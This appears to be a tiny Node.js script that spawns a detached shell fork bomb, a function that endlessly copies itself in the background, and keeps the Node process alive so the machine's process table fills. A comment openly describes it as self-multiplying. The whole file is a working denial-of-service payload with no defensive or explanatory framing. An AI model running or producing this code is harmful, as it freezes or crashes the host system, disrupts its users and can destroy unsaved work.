import { spawn } from 'node:child_process';

// Every copy starts two more, for ever, and never answers.
spawn('sh', ['-c', 'bomb() { bomb | bomb & }; while :; do bomb; done'], { stdio: 'ignore', detached: true });
setInterval(() => {}, 1_000);
